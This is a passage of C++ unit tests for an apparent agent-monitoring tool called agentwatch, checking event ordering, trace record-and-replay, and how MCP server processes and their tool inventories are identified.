  ASSERT_TRUE(p.Push(events::Event(v1::EVENT_TYPE_EXEC).Pid(70).Ppid(7).Uid(0).Cgroup(5)));
  ASSERT_TRUE(p.Push(events::Event(v1::EVENT_TYPE_EXIT).Pid(70).Uid(0).Cgroup(5)));
  RunThrough(p, 53);
  auto at = [&](uint32_t pid, v1::EventType type) { return IndexOf(out, pid, type); };
  ASSERT_EQ(out.size(), 53u);
  EXPECT_LT(at(7, v1::EVENT_TYPE_FORK), at(70, v1::EVENT_TYPE_EXEC));
  EXPECT_LT(at(70, v1::EVENT_TYPE_EXEC), at(70, v1::EVENT_TYPE_EXIT));
}

TEST(PipelineTest, TraceReplaysToTheSameStream) {
  char path[] = "/tmp/aw-pipeline-XXXXXX";
  close(mkstemp(path));
  FakeSink sink;
  std::vector<std::string> live;
  {
    TraceWriter w;
    ASSERT_EQ(w.Open(path), "");
    Pipeline p(Pipeline::Options{}, &sink,
               [&](const v1::Event& ev, const std::vector<uint32_t>&) {
                 live.push_back(ev.SerializeAsString());
               });
    p.SetWatchRules(BuiltinWatchRules(), {});
    p.SetRecorder(&w);
    for (const auto& e : Workload()) p.Process(e);
    w.Close();
  }
  TraceReader r;
  ASSERT_EQ(r.Open(path), "");
  std::vector<v1::Event> recorded;
  v1::Event e;
  std::string err;
  while (r.Next(&e, &err) == TraceReader::Result::kOk) recorded.push_back(e);
  EXPECT_EQ(recorded.size(), Workload().size());
  EXPECT_EQ(RunAll(recorded, nullptr), live);
  unlink(path);
}

}  // namespace
}  // namespace agentwatch

namespace agentwatch {
namespace {

// MCP 2026-07-28 over stdio: the SDK v2 client asks a short-lived process
// for server/discover and runs the session in another; the real server's
// tools are asked for by the name server/discover gave.
TEST(PipelineTest, StatelessStdioServerIsOneServerWithItsTools) {
  Pipeline p(Pipeline::Options{}, nullptr, nullptr);
  TraceReader reader;
  ASSERT_EQ(reader.Open(std::string(AW_SCENARIO_TRACES) + "/benign-sdk2-stdio.awtrace"), "");
  v1::Event ev;
  std::string err;
  while (reader.Next(&ev, &err) == TraceReader::Result::kOk) p.Process(ev);
  auto servers = p.mcp_tracker().Servers(true);
  ASSERT_EQ(servers.size(), 2u);  // the discover process and the session's
  // Both carry the name the server gives in _meta, and one identity.
  for (const auto& s : servers) {
    EXPECT_EQ(s.name(), "sdk2-tools") << s.id();
    EXPECT_EQ(s.identity(), servers[0].identity());
  }
  // Asked by name, by either process's id or pid: the tools/list answer
  // the session's process gave.
  std::vector<std::string> keys = {"sdk2-tools"};
  for (const auto& s : servers) {
    keys.push_back(s.id());
    keys.push_back(std::to_string(s.pid()));
  }
  for (const auto& k : keys) {
    v1::McpToolInventory inv;
    ASSERT_TRUE(p.mcp_tracker().Inventory(k, &inv)) << k;
    EXPECT_EQ(inv.tools_size(), 6) << k;
    EXPECT_EQ(inv.server_name(), "sdk2-tools") << k;
  }
}

}  // namespace
}  // namespace agentwatch
